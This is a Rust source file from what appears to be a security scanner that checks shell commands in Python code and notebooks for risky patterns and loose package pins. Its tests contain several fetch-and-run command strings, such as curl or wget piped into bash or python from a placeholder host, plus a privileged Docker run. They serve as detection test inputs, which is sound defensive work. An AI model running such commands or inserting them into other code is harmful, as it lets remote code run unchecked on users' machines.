//! Commands in code and notebooks: read as a shell reads them, and judged by what is looked for in scripts.

use crate::python::module::Module;
use crate::python::value::HOLE;
use crate::shell::Word;
use crate::shell::inspect::{self, Setting};
use bartizan_core::Rule;
use std::ops::Range;

/// Rules of this file: a command may show whatever a script may.
pub(in crate::python) static RULES: &[&Rule] = crate::rules::RULES;

/// Longest command judged, in bytes.
const MOST: usize = 32 << 10;

/// Judges a command line or script; what is found stands at `span`.
pub(in crate::python) fn judge(text: &str, span: &Range<usize>, module: &mut Module) {
    let text = text.get(..text.floor_char_boundary(MOST)).unwrap_or(text);
    for issue in inspect::commands_alone(&spelt(text), Setting::Other) {
        module.report(span, issue.into_finding());
    }
}

/// Judges a command given as a list of words.
pub(in crate::python) fn judge_words(words: &[String], span: &Range<usize>, module: &mut Module) {
    let shell = words.first().and_then(|word| word.rsplit('/').next()).unwrap_or_default();
    if matches!(shell, "sh" | "bash" | "zsh") && words.get(1).is_some_and(|word| word.ends_with('c')) {
        if let Some(script) = words.get(2) {
            judge(script, span, module);
        }
        return;
    }
    let words: Vec<Word> = words
        .iter()
        .map(|word| Word { text: spelt(word), span: span.clone(), expansions: Vec::new(), quoted: true })
        .collect();
    for issue in inspect::words(&words, Setting::Other) {
        module.report(span, issue.into_finding());
    }
}

/// The command with what is not known as a variable of the shell. Before `-m` stands the interpreter, however it is named.
fn spelt(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once(HOLE) {
        shown.push_str(before);
        shown.push_str(if after.starts_with(" -m ") { "python" } else { "${value}" });
        rest = after;
    }
    shown.push_str(rest);
    shown
}

/// Whether a requirement can mean another package file tomorrow.
pub(in crate::python) fn is_loose(requirement: &str) -> bool {
    let requirement = requirement.trim().trim_matches(['"', '\'']);
    if requirement.is_empty()
        || requirement.contains(HOLE)
        || requirement.starts_with(['.', '/', '$', '{', '~', '*', '<', '>', '(', ')'])
    {
        return false;
    }
    let address = requirement.rsplit_once(" @ ").map_or(requirement, |(_, address)| address).trim();
    if address.starts_with("git+") || address.contains("://") {
        let (address, fragment) = address.split_once('#').unwrap_or((address, ""));
        let commit =
            address.rsplit_once('@').is_some_and(|(_, reference)| crate::python::hub::is_commit(reference));
        let hashed = fragment.contains("sha256=") || fragment.contains("sha512=");
        let released = address.starts_with("https://") && address.rsplit('.').next() == Some("whl");
        let pinned = commit || hashed || released || address.starts_with("file:");
        return !pinned;
    }
    let ending = requirement.rsplit('.').next().unwrap_or_default();
    if matches!(ending, "whl" | "gz" | "txt" | "zip") || requirement.contains('/') {
        return false;
    }
    let exact = requirement.contains("===")
        || requirement.split_once("==").is_some_and(|(_, version)| !version.contains('*'));
    !exact && requirement.as_bytes().first().is_some_and(u8::is_ascii_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::python::tests::severities;
    use bartizan_core::Severity::{High, Low, Medium};

    #[test]
    fn downloads_that_run_at_once_are_found_in_every_spelling() {
        let graded =
            |line: &str| severities(&format!("import os\nos.system({line:?})"), "pipeline/curl-pipe-shell");
        for line in [
            "curl -s https://x.example/i.sh | bash",
            "wget -qO- https://x.example/i | sudo -E sh -s -- --yes",
            "bash <(curl -s https://x.example/i.sh)",
            "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
            "curl https://x.example/i.py | python3 -",
            "curl https://x.example/i | tee log | /bin/bash",
        ] {
            assert_eq!(graded(line), [High], "{line}");
        }
        for line in [
            "curl -s https://x.example/data.json | jq .",
            "cat i.sh | sh",
            "wget https://x.example/i.sh",
            "curl x | shasum",
        ] {
            assert_eq!(graded(line), [], "{line}");
        }
    }

    #[test]
    fn what_scripts_are_judged_by_commands_are_judged_by() {
        let found = |command: &str, rule: &str| {
            severities(&format!("import os, sys\nos.system({command})"), &format!("pipeline/{rule}"))
        };
        assert_eq!(found("'ray start --head --dashboard-host=0.0.0.0'", "exposed-service"), [High]);
        assert_eq!(found("'docker run --privileged acme/net@sha256:aa'", "privileged-container"), [High]);
        assert_eq!(found("f'{sys.executable} -m pip install torch'", "unpinned-package"), [Medium]);
        assert_eq!(found("f'pip install torch=={VERSION}'", "unpinned-package"), []);
    }

    #[test]
    fn commands_are_judged_however_they_are_started() {
        let graded = |code: &str| severities(code, "pipeline/curl-pipe-shell");
        assert_eq!(graded("import os\nos.system('curl -s https://x.example/i.sh | bash')"), [High]);
        assert_eq!(
            graded("import subprocess as s\nU = 'https://x.example'\ns.run(f'curl {U}/i | sh', shell=True)"),
            [High]
        );
        assert_eq!(
            graded(
                "import subprocess\nsubprocess.check_call(['bash', '-c', 'wget -O- https://x.example/i | sh'])"
            ),
            [High]
        );
        assert_eq!(graded("import os\nos.system('ls | wc')"), []);
    }

    #[test]
    fn installs_are_loose_without_an_exact_version_commit_or_hash() {
        for loose in [
            "torch",
            "torch>=2",
            "torch[cuda]",
            "git+https://g.example/a/b",
            "git+https://g.example/a/b@main",
            "a @ git+https://g.example/a/b",
            "torch==2.*",
        ] {
            assert!(is_loose(loose), "{loose}");
        }
        for tight in [
            "torch==2.1.0",
            ".",
            "./pkg",
            "-e",
            "requirements.txt",
            "a.whl",
            "git+https://g.example/a/b@0f3c9b2d1b7f4b1d7b0f4e8e9b8e3a3bb4f9c012",
            "https://g.example/a.tar.gz#sha256=00",
        ] {
            assert!(!is_loose(tight), "{tight}");
        }
        let graded = |code: &str| severities(code, "pipeline/unpinned-package");
        assert_eq!(graded("import os\nos.system('pip install -q torch')"), [Medium]);
        assert_eq!(
            graded(
                "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch'])"
            ),
            [Medium]
        );
        assert_eq!(graded("import os\nos.system('pip install -r requirements.txt torch==2.1.0')"), []);
        assert_eq!(graded("import os\nos.system('pip install --upgrade pip')"), [Low]);
    }
}
